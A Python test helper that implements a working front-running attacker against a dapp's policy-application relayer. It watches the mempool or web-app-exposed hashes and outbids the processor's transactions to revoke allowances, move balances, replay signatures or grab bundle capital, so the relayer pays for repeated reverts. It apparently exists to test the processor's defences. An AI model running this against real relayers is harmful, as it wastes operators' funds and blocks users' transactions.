"""An applicant who turns the relayer's gas against it (issue 21): policy holders who let the
processor send their application, then change what its call reads just before it runs.

It watches for a processor transaction that carries one of its holders' applications: in the
node's pool (`txpool_content`, where it reads the calldata and the tip to beat) or, where the
transaction never reaches a public pool, through the hashes the web app shows its users
(`shown`), or both (`pool=True` with `shown`). Then it sends, with a higher tip so that it is
mined first in the same block, what its `mode` says:

- `allowance`: `approve(treasury, 0)` from the holder: the processor's transaction reverts with
  `ERROR:DP-015:ALLOWANCE_TOO_LOW`. Once that is mined it approves `allowance` again, so the
  application would succeed if sent again: each resend is one more revert to pay for.
- `balance`: the holder transfers its premium tokens to `accomplice` (`DP-014:BALANCE_TOO_LOW`),
  which sends them back once that is mined.
- `signature`: `accomplice` sends the very same call (the signature is in the calldata anyone
  can read), so the policy is created by its transaction and the processor's finds the
  signature used (`DMH-001`).
- `capital`: `accomplice` applies directly (`applyForPolicyWithBundle`) on the same bundle with
  the same terms, taking capital the processor's application counted on (`DP-016`, when the
  bundle had room for one such policy). It needs premium tokens and the treasury's allowance.

The last three need the processor's calldata: a transaction only `shown` is looked up by hash.

It signs with the holders' own keys, as a real one does, and runs in a thread of its own until
its stop Event is set; `run_once()` is one look, for tests that drive it step by step.
"""

from __future__ import annotations

import logging
import threading
from collections.abc import Callable, Iterable, Sequence

from eth_abi import decode as abi_decode
from eth_account.signers.local import LocalAccount
from eth_utils import keccak
from web3 import HTTPProvider, Web3

log = logging.getLogger(__name__)
APPLY = (
    "applyForPolicyWithBundleAndSignature(address,address,uint256,uint256,uint256,bytes32,bytes)"
)
APPLY_SELECTOR = "0x" + keccak(text=APPLY)[:4].hex()
APPLY_TYPES = APPLY[APPLY.index("(") + 1 : -1].split(",")
APPROVE_SELECTOR = keccak(text="approve(address,uint256)")[:4]
TRANSFER_SELECTOR = keccak(text="transfer(address,uint256)")[:4]
BALANCE_OF_SELECTOR = keccak(text="balanceOf(address)")[:4]
DIRECT_SELECTOR = keccak(text="applyForPolicyWithBundle(address,uint256,uint256,uint256)")[:4]
TOKEN_GAS = 80_000  # an approval or a transfer of the premium token
MODES = ("allowance", "balance", "signature", "capital")
GWEI = 10**9
# the fees to beat when the transaction cannot be seen (`shown`): (tip, max fee)
BLIND_FEES = (50 * GWEI, 100 * GWEI)


def application_holder(tx: dict, product: str) -> str | None:
    """The policy holder whose application `tx` (a node's transaction object) sends to
    `product`, or None when it sends none."""
    data = tx.get("input") or tx.get("data") or "0x"
    if (tx.get("to") or "").lower() != product.lower() or not data.startswith(APPLY_SELECTOR):
        return None
    args = abi_decode(APPLY_TYPES, bytes.fromhex(data[10:]))
    return Web3.to_checksum_address(args[0])


def pool_transactions(content: dict) -> Iterable[dict]:
    """Every transaction in a `txpool_content` answer, pending and queued."""
    for section in ("pending", "queued"):
        for by_nonce in (content.get(section) or {}).values():
            yield from by_nonce.values()


class Attacker:
    """Front-runs the processor's transactions for `holders` as its `mode` says."""

    def __init__(
        self,
        *,
        rpc_url: str,
        product: str,
        token: str,
        treasury: str,
        holders: Sequence[LocalAccount],
        allowance: int = 100 * 10**6,
        mode: str = "allowance",
        accomplice: LocalAccount | None = None,
        shown: Callable[[], dict[str, str]] | None = None,
        pool: bool | None = None,
        poll: float = 0.02,
    ) -> None:
        self.w3 = Web3(HTTPProvider(rpc_url, request_kwargs={"timeout": 10}))
        self.product = product
        self.token = token
        self.treasury = treasury
        self.holders = {h.address.lower(): h for h in holders}
        self.allowance = allowance  # what it approves again after each attack
        if mode not in MODES or (mode != "allowance" and accomplice is None):
            raise ValueError(f"mode {mode!r}: one of {MODES}, all but allowance with accomplice")
        self.mode = mode
        self.accomplice = accomplice  # an address of its own, with ETH (and tokens: capital)
        self.shown = shown  # None: watch the pool; else {tx hash: holder} as the web app shows
        self.pool = shown is None if pool is None else pool  # the pool too, with `shown`
        self.poll = poll
        self.attacked: dict[str, str] = {}  # processor transaction hash -> holder address
        self.approvals: list[str] = []  # hashes of its front-running transactions
        self.restores: list[str] = []  # hashes of what puts the state back once those mined
        self.errors: list[str] = []
        self.stop = threading.Event()
        # front-running hash -> (holder, fees, what puts the state back: None for nothing)
        self._unmined: dict[str, tuple[str, tuple, Callable[[], str] | None]] = {}
        self._nonces: dict[str, int] = {}
        self._chain_id = 0
        self._thread: threading.Thread | None = None

    def start(self) -> Attacker:
        self._chain_id = self.w3.eth.chain_id
        self._thread = threading.Thread(target=self.run, name="attacker", daemon=True)
        self._thread.start()
        return self

    def run(self) -> None:
        while not self.stop.is_set():
            try:
                self.run_once()
            except Exception as error:  # a test reads them; the attacker keeps going
                log.warning("attacker: %s", error)
                self.errors.append(repr(error))
            self.stop.wait(self.poll)

    def close(self) -> None:
        self.stop.set()
        if self._thread is not None:
            self._thread.join(10)

    def __enter__(self) -> Attacker:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.close()

    def run_once(self) -> None:
        """One look: attack what is new, put the state back where an attack was mined."""
        self._chain_id = self._chain_id or self.w3.eth.chain_id
        for tx_hash, holder, fees, tx in self._targets():
            if tx_hash in self.attacked:
                continue
            if any(h == holder for h, _f, _r in self._unmined.values()):
                self.attacked[tx_hash] = holder
                continue  # its state is already on its way to change in this block
            if tx is None and self.mode != "allowance":
                tx = self.w3.provider.make_request("eth_getTransactionByHash", [tx_hash])["result"]
                if tx is None:
                    continue  # no calldata to read (yet)
            self.attacked[tx_hash] = holder
            sent, restore = self._front_run(holder, fees, tx)
            self.approvals.append(sent)
            self._unmined[sent] = (holder, fees, restore)
            log.info("attacker (%s): %s front-runs %s with %s", self.mode, holder, tx_hash, sent)
        for sent, (_holder, _fees, restore) in list(self._unmined.items()):
            if self._mined(sent):
                del self._unmined[sent]
                if restore is not None:
                    self.restores.append(restore())

    def _front_run(
        self, holder: str, fees: tuple[int, int], tx: dict | None
    ) -> tuple[str, Callable[[], str] | None]:
        """Send what the mode says ahead of `tx`; returns its hash and what puts the state
        back after it is mined."""
        account, accomplice, token = self.holders[holder], self.accomplice, self.token
        if self.mode == "allowance":
            sent = self._send(account, token, _approve(self.treasury, 0), TOKEN_GAS, fees)
            return sent, lambda: self._send(
                account, token, _approve(self.treasury, self.allowance), TOKEN_GAS, fees
            )
        assert accomplice is not None and tx is not None
        if self.mode == "balance":
            amount = int.from_bytes(self._read(token, BALANCE_OF_SELECTOR + _word(int(holder, 16))))
            moved = _transfer(accomplice.address, amount)
            sent = self._send(account, token, moved, TOKEN_GAS, fees)
            return sent, lambda: self._send(
                accomplice, token, _transfer(holder, amount), TOKEN_GAS, fees
            )
        data = bytes.fromhex((tx.get("input") or tx["data"])[2:])
        gas = int(tx["gas"], 16)
        if self.mode == "capital":  # the same terms, for a wallet of its own
            args = abi_decode(APPLY_TYPES, data[4:])
            data = DIRECT_SELECTOR + b"".join(
                _word(v) for v in (int(accomplice.address, 16), *args[2:5])
            )
        return self._send(accomplice, self.product, data, gas, fees), None

    def _mined(self, tx_hash: str) -> bool:
        return (
            self.w3.provider.make_request("eth_getTransactionReceipt", [tx_hash])["result"]
            is not None
        )

    def _targets(self) -> Iterable[tuple[str, str, tuple[int, int], dict | None]]:
        """(processor transaction hash, holder address, (tip, max fee) to beat, the
        transaction where the pool shows it) of what it can see."""
        if self.shown is not None:
            for tx_hash, holder in self.shown().items():
                if holder.lower() in self.holders:
                    yield tx_hash, holder.lower(), BLIND_FEES, None
        if not self.pool:
            return
        for tx in pool_transactions(self.w3.provider.make_request("txpool_content", [])["result"]):
            holder = application_holder(tx, self.product)
            if holder is not None and holder.lower() in self.holders:
                price = int(tx.get("gasPrice") or "0x0", 16)
                tip = int(tx.get("maxPriorityFeePerGas") or hex(price), 16)
                fees = (tip, int(tx.get("maxFeePerGas") or hex(price), 16))
                yield tx["hash"], holder.lower(), fees, tx

    def _read(self, to: str, data: bytes) -> bytes:
        return bytes(self.w3.eth.call({"to": to, "data": "0x" + data.hex()}))

    def _send(
        self, account: LocalAccount, to: str, data: bytes, gas: int, to_beat: tuple[int, int]
    ) -> str:
        """Send `data` to `to` from `account` with a tip and a max fee above those `to_beat`:
        a builder orders by the tip, anvil by the max fee; it pays only base fee and tip."""
        tip = 2 * to_beat[0] + GWEI
        base_fee = self.w3.eth.get_block("latest")["baseFeePerGas"]
        tx = {
            "type": 2,
            "chainId": self._chain_id,
            "nonce": self._nonce(account.address),
            "to": to,
            "data": "0x" + data.hex(),
            "gas": gas,
            "maxPriorityFeePerGas": tip,
            "maxFeePerGas": max(tip + 2 * base_fee, 2 * to_beat[1] + GWEI),
        }
        raw = account.sign_transaction(tx).raw_transaction
        return self.w3.eth.send_raw_transaction(raw).to_0x_hex()

    def _nonce(self, address: str) -> int:
        if address not in self._nonces:
            self._nonces[address] = self.w3.eth.get_transaction_count(address, "pending")
        self._nonces[address] += 1
        return self._nonces[address] - 1


def _word(value: int) -> bytes:
    return value.to_bytes(32, "big")


def _approve(spender: str, amount: int) -> bytes:
    return APPROVE_SELECTOR + _word(int(spender, 16)) + _word(amount)


def _transfer(to: str, amount: int) -> bytes:
    return TRANSFER_SELECTOR + _word(int(to, 16)) + _word(amount)


def shown_by_webapp(client, applications: dict[str, str]) -> Callable[[], dict[str, str]]:
    """What the web app shows each holder: the `transactionHash` the processor wrote on its
    application (`applications`: entity id -> holder address), once there is one."""

    def shown() -> dict[str, str]:
        pipe = client.pipeline(transaction=False)
        for entity_id in applications:
            pipe.hget(f"PendingApplication:{entity_id}", "transactionHash")
        hashes = pipe.execute()
        return {h: applications[e] for e, h in zip(applications, hashes) if h}

    return shown
